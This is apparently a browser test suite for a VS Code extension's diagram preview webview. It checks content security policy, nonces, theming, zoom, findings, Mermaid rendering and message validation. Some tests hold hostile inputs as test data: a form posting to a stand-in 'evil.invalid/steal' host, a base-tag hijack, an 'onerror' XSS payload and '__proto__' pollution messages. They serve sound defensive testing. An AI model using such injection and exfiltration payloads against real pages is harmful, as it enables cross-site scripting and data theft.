// The preview webview in a real headless Chromium, with the real bundle and the real CSP (see
// harness.ts): every example renders, clicks post the right reveal, the theme follows VS Code
// and the user's choice, a broken version keeps the last diagram under a banner, zoom survives
// updates, the Mermaid view renders with real mermaid, invalid messages are ignored, and the
// page stays within its policy. Screenshots go to .test-artifacts/preview-*.png.
import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import { ARTIFACTS, exampleFiles, usePreviewBrowser } from './harness';
import { previewCsp } from '../../src/extension/previewHtml';
import { ROOT } from '../helpers/paths';
import { recordScreenshot } from '../helpers/screenshots';

// The callbacks given to page.evaluate run in the page; these are their globals (this program
// is compiled without the DOM library).
declare const window: { postMessage(m: unknown, origin: string): void } & Record<string, unknown>;
declare const document: { title: string; querySelector(s: string): unknown; querySelectorAll(s: string): { length: number }; body: { classList: { replace(a: string, b: string): void } } };
declare function getComputedStyle(e: unknown): { fill: string };
interface HTMLScriptElement {
  nonce: string;
}
interface HTMLStyleElement {
  nonce: string;
}
interface HTMLElement {
  style: { transform: string };
}

const SMALL = `tenant shop { trust: internal }
host rack1 "Rack one" {
  cpu: 32
  memory: 128GiB
  hypervisor esx1 {
    product: esxi
    vm node1 {
      cpu: 8
      memory: 32GiB
      os: ubuntu-22.04
      engine ctr1 {
        product: containerd
        runtime: runc
        container web {
          image: "acme/web:1.4.2"
          memory: 512MiB
          tenant: shop
          app nginx
        }
      }
    }
  }
}
`;

/** Allowed CSP reports: none. (Listed here if a future bundle ever needs an exception.) */
function unexpected(violations: { directive: string; blocked: string; sample: string }[]): string[] {
  return violations.map((v) => `${v.directive} blocked ${v.blocked || 'inline'} ${v.sample}`);
}

describe('preview webview in Chromium', function () {
  this.timeout(60_000);
  const preview = usePreviewBrowser();

  it('serves the page with the strict CSP and a fresh nonce per load', async () => {
    const a = await preview.open(SMALL);
    const b = await preview.open(SMALL);
    try {
      const [n1, n2] = preview.server.nonces.slice(-2);
      assert.notStrictEqual(n1.script, n2.script);
      assert.notStrictEqual(n1.style, n2.style);
      assert.notStrictEqual(n1.script, n1.style);
      const csp = await a.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      assert.strictEqual(csp, previewCsp(preview.server.origin, n1));
      assert.match(csp!, /^default-src 'none'; /);
      assert.doesNotMatch(csp!, /unsafe-eval|unsafe-inline|\*/);
      // Scripts by one nonce, styles by another; no <base>, no form submission.
      assert.match(csp!, new RegExp(`script-src 'nonce-${n1.script}';`));
      assert.match(csp!, new RegExp(`style-src ${preview.server.origin} 'nonce-${n1.style}';`));
      assert.match(csp!, /base-uri 'none';/);
      assert.match(csp!, /form-action 'none';/);
      const scripts = await a.page.$$eval('script', (els) => els.map((e) => ({ src: e.getAttribute('src'), nonce: (e as HTMLScriptElement).nonce })));
      assert.deepStrictEqual(scripts, [{ src: `${preview.server.origin}/webview/preview.js`, nonce: n1.script }]);
      // The diagram's own stylesheet carries the style nonce, not the script nonce.
      assert.deepStrictEqual(await a.page.$$eval('#layers-canvas style', (els) => els.map((e) => (e as HTMLStyleElement).nonce)), [n1.style]);
      assert.deepStrictEqual(unexpected(await a.violations()), []);
      // The policy holds in the page: a <base> and a form that posts are refused (each reports
      // its violation, which is waited for).
      const refused = (await a.page.evaluate(`(async () => {
        const seen = [];
        const both = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => {
          seen.push(e.effectiveDirective);
          if (seen.includes('base-uri') && seen.includes('form-action')) resolve();
        }));
        const base = document.createElement('base');
        base.href = 'https://evil.invalid/';
        document.head.appendChild(base);
        const resolved = new URL('x', document.baseURI).origin;
        base.remove();
        const form = document.createElement('form');
        form.action = 'https://evil.invalid/steal';
        form.method = 'post';
        document.body.appendChild(form);
        form.submit();
        form.remove();
        await both;
        return { resolved, seen };
      })()`)) as { resolved: string; seen: string[] };
      assert.notStrictEqual(refused.resolved, 'https://evil.invalid');
      assert.ok(refused.seen.includes('base-uri') && refused.seen.includes('form-action'), JSON.stringify(refused.seen));
      assert.deepStrictEqual(a.foreignRequests, []);
    } finally {
      await a.close();
      await b.close();
    }
  });

  for (const file of exampleFiles()) {
    const name = path.basename(file, '.strata');
    it(`renders ${name} with every node clickable, in light and dark (screenshots)`, async () => {
      const text = fs.readFileSync(file, 'utf8');
      for (const bodyClass of ['vscode-light', 'vscode-dark']) {
        const ext = await preview.open(text, { bodyClass, viewport: { width: 1280, height: 800 } });
        try {
          const theme = bodyClass === 'vscode-dark' ? 'dark' : 'light';
          const svgClass = await ext.page.getAttribute('#layers-canvas > svg', 'class');
          assert.match(svgClass ?? '', new RegExp(`\\btheme-${theme}\\b`));
          const rendered = ext.lastOf('rendered')!;
          assert.ok(rendered.elements > 0, 'no element carries a data-id');
          // The embedded stylesheet applies (its nonce let it through): text is not black-on-black.
          const fill = await ext.page.$eval('#layers-canvas svg text', (t) => getComputedStyle(t).fill);
          assert.strictEqual(fill, theme === 'dark' ? 'rgb(230, 237, 243)' : 'rgb(31, 35, 40)');
          assert.deepStrictEqual(unexpected(await ext.violations()), []);
          assert.deepStrictEqual(ext.pageErrors, []);
          const png = path.join(ARTIFACTS, `preview-${name}-${theme}.png`);
          await ext.page.screenshot({ path: png });
          recordScreenshot(png, { kind: 'layers', file: path.relative(ROOT, file), theme });
        } finally {
          await ext.close();
        }
      }
    });
  }

  it('posts reveal with the id of the clicked node', async () => {
    const ext = await preview.open(SMALL);
    try {
      for (const id of ['web', 'node1', 'rack1']) {
        const before = ext.received.length;
        // Click the top-left corner of the node's frame or first bar: its own header, not a child.
        await ext.page.locator(`#layers-canvas g.node[data-id="${id}"] > rect`).first().click({ position: { x: 6, y: 6 } });
        await ext.waitFor(() => ext.received.slice(before).some((m) => m.type === 'reveal'), `a reveal for ${id}`);
        const reveal = ext.received.slice(before).find((m) => m.type === 'reveal');
        assert.deepStrictEqual(reveal, { type: 'reveal', id });
      }
    } finally {
      await ext.close();
    }
  });

  it('highlights the node the extension names, and only that one', async () => {
    const ext = await preview.open(SMALL);
    try {
      await ext.send({ type: 'highlight', id: 'web' });
      await ext.page.waitForSelector('#layers-canvas g.node.hl[data-id="web"]');
      assert.deepStrictEqual(await ext.page.$$eval('#layers-canvas .hl', (els) => els.map((e) => e.getAttribute('data-id'))), ['web']);
      await ext.send({ type: 'highlight', id: 'node1' });
      await ext.page.waitForSelector('#layers-canvas g.node.hl[data-id="node1"]');
      assert.deepStrictEqual(await ext.page.$$eval('#layers-canvas .hl', (els) => els.map((e) => e.getAttribute('data-id'))), ['node1']);
      // The highlight survives an update.
      await ext.edit(SMALL + '\n# edited\n');
      await ext.waitForRendered(2);
      assert.deepStrictEqual(await ext.page.$$eval('#layers-canvas .hl', (els) => els.map((e) => e.getAttribute('data-id'))), ['node1']);
      await ext.send({ type: 'highlight', id: null });
      await ext.page.waitForFunction(() => document.querySelectorAll('#layers-canvas .hl').length === 0);
    } finally {
      await ext.close();
    }
  });

  it('follows the VS Code theme class and the user override, without a new rendering', async () => {
    const ext = await preview.open(SMALL, { bodyClass: 'vscode-light' });
    try {
      const svgTheme = () => ext.page.getAttribute('#layers-canvas > svg', 'class');
      const bg = () => ext.page.$eval('#layers-canvas svg .bg', (r) => getComputedStyle(r).fill).catch(() => 'no .bg');
      assert.match((await svgTheme())!, /theme-light/);
      const lightBg = await bg();
      // VS Code switches to a dark theme: the body class changes.
      await ext.page.evaluate(() => document.body.classList.replace('vscode-light', 'vscode-dark'));
      await ext.waitFor(() => ext.lastOf('options')?.theme === 'dark', 'options with the dark theme');
      assert.match((await svgTheme())!, /theme-dark/);
      assert.notStrictEqual(await bg(), lightBg);
      // High contrast.
      await ext.page.evaluate(() => document.body.classList.replace('vscode-dark', 'vscode-high-contrast'));
      await ext.waitFor(() => ext.lastOf('options')?.theme === 'high-contrast', 'options with the high-contrast theme');
      assert.match((await svgTheme())!, /theme-high-contrast/);
      // The user overrides: light, whatever VS Code says.
      await ext.page.selectOption('#theme-choice', 'light');
      await ext.waitFor(() => ext.lastOf('options')?.theme === 'light', 'options with the light theme');
      assert.match((await svgTheme())!, /theme-light/);
      assert.strictEqual(await bg(), lightBg);
      await ext.page.evaluate(() => document.body.classList.replace('vscode-high-contrast', 'vscode-dark'));
      assert.match((await svgTheme())!, /theme-light/, 'an override is not undone by the VS Code theme');
      // Saved in the webview state (shortly after the change).
      await ext.page.waitForFunction(() => (window as unknown as { __state?: { themeChoice?: string } }).__state?.themeChoice === 'light');
    } finally {
      await ext.close();
    }
  });

  it('never goes blank: a broken version keeps the last diagram and shows a banner that reveals the error', async () => {
    const ext = await preview.open(SMALL);
    try {
      const before = await ext.page.$eval('#layers-canvas', (c) => c.innerHTML);
      const broken = SMALL.replace('container web {', 'container web {\n  memory: : :\n  @@@');
      const update = await ext.edit(broken);
      assert.strictEqual(update.svg, undefined, 'the extension sends no diagram for a broken version');
      assert.ok(update.error);
      await ext.page.waitForSelector('#banner:not([hidden])');
      const banner = await ext.page.textContent('#banner');
      assert.match(banner!, new RegExp(`line ${update.error.line}, column ${update.error.column}`));
      assert.match(banner!, /last version without syntax errors/);
      assert.strictEqual(await ext.page.$eval('#layers-canvas', (c) => c.innerHTML), before);
      // A click on the banner reveals the error.
      await ext.page.click('#banner-reveal');
      await ext.waitFor(() => ext.lastOf('revealSpan') !== undefined, 'a revealSpan');
      assert.deepStrictEqual(ext.lastOf('revealSpan'), { type: 'revealSpan', start: update.error.start, end: update.error.end });
      // Even a malformed diagram from the extension does not blank it.
      await ext.send({ ...update, version: 99, svg: '<svg xmlns="http://www.w3.org/2000/svg"><g>' });
      await ext.page.waitForFunction(() => document.title === 'example.strata');
      assert.strictEqual(await ext.page.$eval('#layers-canvas', (c) => c.innerHTML), before);
      // Fixed again: a new diagram, no banner.
      ext.version = 100;
      await ext.edit(SMALL.replace('Rack one', 'Rack two'));
      await ext.waitForRendered(101);
      assert.ok(await ext.page.isHidden('#banner'));
      assert.match(await ext.page.$eval('#layers-canvas', (c) => c.textContent ?? ''), /Rack two/);
    } finally {
      await ext.close();
    }
  });

  it('a file that is broken from the start still shows what the parser recovered', async () => {
    const ext = await preview.open('host a { cpu: 4\nhost b {');
    try {
      assert.ok((await ext.page.$$('#layers-canvas svg')).length === 1);
      await ext.page.waitForSelector('#banner:not([hidden])');
    } finally {
      await ext.close();
    }
  });

  it('keeps zoom and pan across updates, in the webview state too', async () => {
    const ext = await preview.open(SMALL);
    try {
      await ext.page.click('[data-zoom="reset"]');
      await ext.page.click('[data-zoom="in"]');
      await ext.page.click('[data-zoom="in"]');
      // Drag to pan.
      const box = (await ext.page.locator('#view-layers').boundingBox())!;
      await ext.page.mouse.move(box.x + 300, box.y + 300);
      await ext.page.mouse.down();
      await ext.page.mouse.move(box.x + 250, box.y + 260, { steps: 5 });
      await ext.page.mouse.up();
      // Wheel zoom around the pointer (mouse.wheel does not wait for the event to be handled).
      const transform = () => ext.page.$eval('#layers-canvas', (c) => (c as HTMLElement).style.transform);
      const panned = await transform();
      await ext.page.mouse.move(box.x + 200, box.y + 200);
      await ext.page.mouse.wheel(0, -100);
      await ext.page.waitForFunction((t) => (document.querySelector('#layers-canvas') as HTMLElement).style.transform !== t, panned);
      const zoomed = await transform();
      assert.match(zoomed, /scale\((?!1\))/);
      assert.strictEqual(ext.received.filter((m) => m.type === 'reveal').length, 0, 'a drag is not a click');
      await ext.edit(SMALL.replace('Rack one', 'Rack one, edited'));
      await ext.waitForRendered(2);
      assert.strictEqual(await transform(), zoomed);
      // The state is saved shortly after the last change.
      const scale = Number(/scale\(([^)]+)\)/.exec(zoomed)![1]);
      await ext.page.waitForFunction((s) => Math.abs(((window as unknown as { __state?: { zoom?: { scale: number } } }).__state?.zoom?.scale ?? 0) - s) < 1e-4, scale);
      const state = await ext.page.evaluate(() => (window as unknown as { __state: { zoom: { scale: number; x: number; y: number } } }).__state);
      assert.ok(Math.abs(state.zoom.scale - 1.5625 * Math.exp(0.15)) < 0.01, JSON.stringify(state.zoom));
      assert.strictEqual(await ext.page.textContent('#zoom-level'), `${Math.round(state.zoom.scale * 100)}%`);
      await ext.page.click('[data-zoom="fit"]');
      assert.notStrictEqual(await transform(), zoomed);
    } finally {
      await ext.close();
    }
  });

  it('restores view, zoom and theme from the saved state (after a reload)', async () => {
    const state = { uri: 'file:///work/example.strata', view: 'findings', themeChoice: 'dark', showLinks: false, zoom: { scale: 0.5, x: 10, y: 20 } };
    const ext = await preview.open(SMALL + 'host bare\n', { state });
    try {
      const ready = ext.lastOf('ready')!;
      assert.deepStrictEqual(ready, { type: 'ready', view: 'findings', theme: 'dark', showLinks: false });
      assert.strictEqual(await ext.page.$eval('#layers-canvas', (c) => (c as HTMLElement).style.transform), 'translate(10px, 20px) scale(0.5)');
      assert.ok(await ext.page.isVisible('#view-findings'));
      assert.ok(!(await ext.page.isChecked('#show-links')));
    } finally {
      await ext.close();
    }
  });

  it('lists the findings; a click reveals the finding', async () => {
    const text = SMALL.replace('image: "acme/web:1.4.2"', 'image: "acme/web:latest"') + 'host rack1 { cpu: 2 }\n';
    const ext = await preview.open(text);
    try {
      await ext.page.click('[data-view="findings"][role="tab"]');
      await ext.waitFor(() => ext.lastOf('options')?.view === 'findings', 'options with the findings view');
      const update = await ext.sendUpdate();
      assert.ok(update.findings.length > 0);
      const rows = await ext.page.$$eval('#findings-list .finding', (els) => els.map((e) => e.textContent));
      assert.strictEqual(rows.length, update.findings.length);
      assert.ok(rows.some((r) => /duplicate-id/.test(r ?? '')), rows.join('\n'));
      assert.strictEqual(await ext.page.textContent('#finding-count'), String(update.findingCount));
      const index = update.findings.findIndex((f) => f.rule === 'duplicate-id');
      await ext.page.locator('#findings-list .finding').nth(index).click();
      await ext.waitFor(() => ext.lastOf('revealSpan') !== undefined, 'a revealSpan');
      assert.deepStrictEqual(ext.lastOf('revealSpan'), { type: 'revealSpan', start: update.findings[index].start, end: update.findings[index].end });
    } finally {
      await ext.close();
    }
  });

  it('shows the Stats view: the stats and what-if reports as tables, computed when the view opens', async () => {
    const file = exampleFiles().find((f) => f.endsWith('three-way.strata')) ?? exampleFiles()[0];
    const text = fs.readFileSync(file, 'utf8');
    const ext = await preview.open(text);
    try {
      assert.strictEqual(ext.lastOf('rendered') && ext.received.filter((m) => m.type === 'options').length, 0);
      await ext.page.click('[data-view="stats"][role="tab"]');
      await ext.waitFor(() => ext.lastOf('options')?.view === 'stats', 'options with the stats view');
      await ext.page.waitForSelector('#stats-content table');
      const headings = await ext.page.$$eval('#stats-content h2', (hs) => hs.map((h) => h.textContent));
      assert.ok(headings.length >= 2, headings.join(' | '));
      assert.match(headings[0]!, /stats/i);
      assert.ok(headings.slice(1).every((h) => /^What if/.test(h ?? '')), headings.join(' | '));
      const tables = await ext.page.$$eval('#stats-content table', (ts) => ts.length);
      assert.ok(tables >= 3, `${tables} tables`);
      await ext.page.screenshot({ path: path.join(ARTIFACTS, 'preview-stats.png') });
      recordScreenshot(path.join(ARTIFACTS, 'preview-stats.png'), { kind: 'stats', file: path.relative(ROOT, file) });
      assert.deepStrictEqual(unexpected(await ext.violations()), []);
    } finally {
      await ext.close();
    }
  });

  it('renders the Mermaid view with real mermaid (loaded only then), within the CSP', async () => {
    const text = fs.readFileSync(exampleFiles()[0], 'utf8');
    const ext = await preview.open(text);
    try {
      assert.ok(!preview.server.requests.slice(-5).includes('/webview/mermaidView.js'));
      assert.strictEqual(await ext.page.$$eval('iframe', (f) => f.length), 0, 'mermaid is not loaded before its view opens');
      await ext.page.click('[data-view="mermaid"][role="tab"]');
      await ext.waitFor(() => ext.lastOf('options')?.view === 'mermaid', 'options with the mermaid view');
      await ext.page.waitForSelector('#mermaid-canvas svg', { timeout: 30_000 });
      const labels = await ext.page.$$eval('#mermaid-canvas svg .node', (els) => els.length);
      assert.ok(labels > 0, 'mermaid drew no node');
      // mermaid's stylesheet applies (the nonce let it through): nodes are not filled black.
      const fill = await ext.page.$eval('#mermaid-canvas svg .node rect, #mermaid-canvas svg .node polygon', (r) => getComputedStyle(r).fill);
      assert.notStrictEqual(fill, 'rgb(0, 0, 0)');
      assert.strictEqual(await ext.page.$$eval('#mermaid-canvas foreignObject', (e) => e.length), 0);
      await ext.page.screenshot({ path: path.join(ARTIFACTS, 'preview-mermaid.png') });
      assert.deepStrictEqual(unexpected(await ext.violations()), []);
      // mermaid ran in its own frame: the page's prototypes and parser are the browser's own, and
      // mermaid is not on the page's window; the frame (same policy, no src) holds only its script.
      const realm = (await ext.page.evaluate(`(() => {
        const native = (f) => /\\{\\s*\\[native code\\]\\s*\\}$/.test(Function.prototype.toString.call(f));
        const frame = document.getElementById('strata-mermaid-frame');
        return {
          native: [Element.prototype.setAttribute, Document.prototype.createElement, DOMParser.prototype.parseFromString].every(native),
          onPage: 'strataMermaid' in window,
          src: frame && frame.getAttribute('src'),
          inFrame: !!(frame && frame.contentWindow.strataMermaid),
          frameScripts: frame ? Array.from(frame.contentDocument.scripts).map((s) => s.src.replace(/^.*\\/webview\\//, '')) : [],
          framePatched: !!frame && !native(frame.contentWindow.Element.prototype.setAttribute),
        };
      })()`)) as { native: boolean; onPage: boolean; src: string | null; inFrame: boolean; frameScripts: string[]; framePatched: boolean };
      assert.deepStrictEqual(realm, { native: true, onPage: false, src: null, inFrame: true, frameScripts: ['mermaidView.js'], framePatched: true });
      // No CSP report in the frame either (the browser logs those on the console).
      assert.deepStrictEqual(ext.console.filter((m) => /Content Security Policy/i.test(m.text)), []);
      assert.deepStrictEqual(ext.foreignRequests, []);
      // A mermaid text that does not parse: a message, and the last drawing stays.
      const update = await ext.sendUpdate();
      await ext.send({ ...update, version: update.version + 1, mermaid: { text: 'flowchart TB\n  a[[[ -->', truncated: false, nodeCount: 1 } });
      await ext.page.waitForSelector('#mermaid-note.error:not([hidden])');
      assert.match((await ext.page.textContent('#mermaid-note'))!, /could not draw/);
      assert.ok((await ext.page.$$('#mermaid-canvas svg')).length === 1);
    } finally {
      await ext.close();
    }
  });

  it('ignores invalid messages and reports them to the extension', async () => {
    const ext = await preview.open(SMALL);
    try {
      const before = await ext.page.$eval('#layers-canvas', (c) => c.innerHTML);
      const junk: unknown[] = [
        null,
        'update',
        42,
        { type: 'update' },
        { type: 'update', uri: 1 },
        { type: 'run', command: 'workbench.action.quit' },
        { type: 'highlight', id: 5 },
        { type: 'highlight', id: 'web', extra: '<img src=x onerror=alert(1)>' },
        { type: 'update', uri: 'u', title: 't', version: 9, theme: 'neon', findings: [], findingCount: 0, nodeCount: 0, svg: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
        { __proto__: { type: 'highlight', id: 'web' } },
      ];
      for (const m of junk) await ext.send(m);
      await ext.waitFor(() => ext.received.filter((m) => m.type === 'log').length >= junk.length, 'a log message per invalid message');
      assert.strictEqual(await ext.page.$eval('#layers-canvas', (c) => c.innerHTML), before);
      assert.strictEqual(await ext.page.$$eval('.hl', (e) => e.length), 0);
      assert.deepStrictEqual(ext.invalid, [], 'the webview itself only sends valid messages');
    } finally {
      await ext.close();
    }
  });

  it('survives 2,000 random messages (fast-check, fixed seed): no page error, the diagram stays', async () => {
    const ext = await preview.open(SMALL);
    try {
      const update = await ext.sendUpdate();
      const keys = Object.keys(update);
      // Mostly near-misses of real messages (a right type, wrong or extra fields), and anything.
      const nearMiss = fc.record({
        type: fc.constantFrom('update', 'highlight', 'reveal', 'unknown', '__proto__', 'constructor'),
        ...Object.fromEntries(keys.filter((k) => k !== 'type').map((k) => [k, fc.oneof(fc.anything(), fc.constant((update as Record<string, unknown>)[k]))])),
        id: fc.oneof(fc.string(), fc.constant('web'), fc.anything()),
      }, { requiredKeys: ['type'] });
      const messages = fc.sample(fc.oneof(nearMiss, fc.anything({ withObjectString: true, withNullPrototype: true })), { numRuns: 2000, seed: 42 });
      const before = await ext.page.$eval('#layers-canvas', (c) => c.querySelectorAll('[data-id]').length);
      // In batches, through the page's own message queue.
      for (let i = 0; i < messages.length; i += 200) {
        await ext.page.evaluate((batch: unknown[]) => batch.forEach((m) => window.postMessage(m, "*")), JSON.parse(JSON.stringify(messages.slice(i, i + 200), (_k, v) => (v === undefined ? null : typeof v === 'bigint' ? String(v) : v))));
      }
      await ext.edit(SMALL.replace('Rack one', 'Rack after fuzz'));
      await ext.waitForRendered(ext.version);
      assert.deepStrictEqual(ext.pageErrors, []);
      assert.deepStrictEqual(ext.dialogs, []);
      assert.deepStrictEqual(ext.invalid, []);
      assert.ok((await ext.page.$eval('#layers-canvas', (c) => c.querySelectorAll('[data-id]').length)) >= before);
      assert.match((await ext.page.textContent('#layers-canvas'))!, /Rack after fuzz/);
    } finally {
      await ext.close();
    }
  });

  it('exports a PNG: the webview posts a real PNG of the diagram', async () => {
    const ext = await preview.open(SMALL);
    try {
      await ext.page.click('#export-png');
      await ext.waitFor(() => ext.lastOf('exportPng') !== undefined, 'an exportPng message', 20_000);
      const png = Buffer.from(ext.lastOf('exportPng')!.data, 'base64');
      assert.deepStrictEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
      const width = png.readUInt32BE(16);
      const svgWidth = Number(await ext.page.getAttribute('#layers-canvas > svg', 'width'));
      assert.strictEqual(width, Math.round(svgWidth * 2));
      fs.writeFileSync(path.join(ARTIFACTS, 'preview-export.png'), png);
      await ext.page.click('#export-svg');
      await ext.page.click('#copy-mermaid');
      await ext.waitFor(() => ext.lastOf('copyMermaid') !== undefined && ext.lastOf('exportSvg') !== undefined, 'exportSvg and copyMermaid');
    } finally {
      await ext.close();
    }
  });

  it('unfolds a "+N" summary on click', async () => {
    // Above maxNodes the renderer folds the largest parts; the fake extension uses the default.
    const hosts: string[] = [];
    for (let h = 0; h < 3; h++) {
      const ctrs = Array.from({ length: 800 }, (_, i) => `      container c${h}_${i} { memory: 64MiB }`).join('\n');
      hosts.push(`host h${h} {\n  os: ubuntu-22.04\n  engine e${h} {\n    product: docker\n${ctrs}\n  }\n}`);
    }
    const ext = await preview.open(hosts.join('\n'));
    try {
      const summary = ext.page.locator('#layers-canvas [data-collapsed="true"]').first();
      const id = await summary.getAttribute('data-id');
      assert.ok(id, 'the large model has a folded summary');
      await summary.locator('rect').first().click();
      await ext.waitFor(() => ext.lastOf('fold') !== undefined, 'a fold message');
      assert.deepStrictEqual(ext.lastOf('fold'), { type: 'fold', id, folded: false });
      await ext.page.waitForFunction((i) => !document.querySelector(`#layers-canvas [data-collapsed="true"][data-id="${i}"]`), id);
    } finally {
      await ext.close();
    }
  });
});
